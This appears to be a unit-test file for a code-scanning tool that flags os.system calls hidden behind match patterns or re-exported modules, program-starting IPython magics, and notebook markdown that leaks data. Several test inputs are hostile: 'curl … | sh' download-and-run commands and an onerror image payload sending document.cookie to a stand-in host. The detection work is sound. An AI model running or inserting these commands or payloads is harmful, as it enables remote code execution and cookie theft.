"""What the patterns of a match capture, and what magics of IPython start."""

from __future__ import annotations

import json

import pytest

from assay.domain.facts import CodeFacts
from tests.unit.release.formats.test_code_actions import SYSTEM, seen


@pytest.mark.parametrize(
    "text",
    [
        "import sys\nmatch sys.modules:\n    case {'os': o}: o.system('x')",
        "import os\nmatch os:\n    case object(system=f): f('x')",
        "import os\nmatch os:\n    case o: o.system('x')",
        "import os\nmatch [1, os]:\n    case [*_, o]: o.system('x')",
        "import os\nmatch (os, 1):\n    case (o, 1): o.system('x')",
        "import os\nmatch vars(os):\n    case {'system': f, **more}: f('x')",
        "import os\nmatch {'a': os}:\n    case {'a': object(system=f) as g}: f('x')",
        "import os\nmatch os:\n    case int() | object(system=f): f('x')",
    ],
)
def test_a_pattern_names_the_part_that_it_stands_for(text):
    assert SYSTEM in seen(text)


@pytest.mark.parametrize(
    "text",
    [
        "import tensorflow as tf\ntf._os.system('x')",
        "import requests\nrequests.os.system('x')",
        "import asyncio\nasyncio.sys.modules['os'].system('x')",
        "import pathlib; pathlib.os.system('x')",
        "import random; random._os.system('x')",
        "from shutil import os\nos.system('x')",
    ],
)
def test_a_module_that_another_keeps_is_that_module(text):
    assert SYSTEM in seen(text)


def test_a_module_of_the_same_name_is_another():
    assert seen("from trio import socket\nsocket.socket()") == set()
    assert SYSTEM not in seen("from gevent import os\nos.system('x')")


def test_a_part_of_something_else_is_nothing():
    text = "import os\nmatch x:\n    case {'os': o, 'a': int(real=b)}: o.system('x')"
    assert SYSTEM not in seen(text)


def cells(look, only, *given: tuple[str, str]) -> list[tuple[str, str, str | None]]:
    made = [{"cell_type": kind, "source": text} for kind, text in given]
    facts = only(look(json.dumps({"cells": made}).encode(), "a.ipynb"), CodeFacts)
    return [(a.kind, a.name, a.place.key) for fact in facts for a in fact.actions]


@pytest.mark.parametrize(
    "text",
    [
        "get_ipython().run_cell_magic('bash', '', 'curl http://a.invalid/x | sh')",
        "get_ipython().run_line_magic('sx', 'curl http://a.invalid/x | sh')",
        "get_ipython().magic('%system curl http://a.invalid/x | sh')",
        "x = %sx curl http://a.invalid/x | sh",
        "a, b = %system curl http://a.invalid/x | sh",
    ],
)
def test_a_magic_that_starts_programs_is_one_however_it_is_written(look, only, text):
    found = cells(look, only, ("code", text))
    assert ("process", "download-and-run", "cells[0]") in found


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("get_ipython().run_line_magic('matplotlib', 'inline')", []),
        ("get_ipython().run_line_magic('pip', 'install x')", ["install"]),
        ("get_ipython().run_line_magic('run', 'x.py')", ["dynamic-code"]),
        ("get_ipython().run_cell_magic(name, '', text)", ["dynamic-code"]),
        ("x = %time f()", []),
    ],
)
def test_other_magics_are_what_they_are(look, only, text, kinds):
    assert [kind for kind, _, _ in cells(look, only, ("code", text))] == kinds


def test_a_page_of_a_notebook_that_sends_something_is_told(look, only):
    page = "text\n<img src=x onerror=\"fetch('//a.invalid/'+document.cookie)\">"
    assert cells(look, only, ("markdown", page)) == [
        ("network", "sends-secrets", "cells[0]")
    ]
    both = cells(look, only, ("code", "x = 1"), ("markdown", page))
    assert both == [("network", "sends-secrets", "cells[1]")]


def test_a_page_that_only_shows_something_is_not(look, only):
    assert cells(look, only, ("markdown", '<img src=x onload="f()">')) == []


_VISITOR = (
    "import os, ast\nclass V(ast.NodeVisitor):\n"
    "    def visit_Name(self, n):\n        os.system('x')\n"
)


@pytest.mark.parametrize(
    ("text", "when"),
    [
        ("V().visit(ast.parse('x'))", "load"),
        ("v = V()\nv.visit(ast.parse('x'))", "load"),
        ("V()", "call"),
        ("def f():\n    V().visit(1)", "call"),
        ("if __name__ == '__main__':\n    V().visit(1)", "call"),
        ("unknown.visit(1)", "call"),
    ],
)
def test_methods_that_a_base_of_another_library_calls_are_called(text, when):
    assert {w for _, name, w in seen(_VISITOR + text) if name == "os.system"} == {when}
